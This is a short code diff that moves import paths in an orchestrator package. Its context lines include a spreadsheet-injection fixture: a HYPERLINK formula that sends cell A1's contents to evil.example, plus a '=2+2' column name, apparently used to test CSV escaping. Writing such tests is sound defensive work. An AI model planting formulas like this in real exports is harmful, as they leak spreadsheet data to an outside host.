@@ -9,10 +9,10 @@ from collections.abc import AsyncIterator
 from pathlib import Path
 
 from manifests import load
-from orchestrator.keys import Ref
-from orchestrator.records import Attempt, Item, Spec
-from orchestrator.results import as_csv, as_jsonl
-from orchestrator.states import State
+from orchestrator.items.states import State
+from orchestrator.ledger.keys import Ref
+from orchestrator.ledger.records import Attempt, Item, Spec
+from orchestrator.reports.results import as_csv, as_jsonl
 
 FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"
 COLUMNS = ("prompt", "product", "=2+2", "offset")
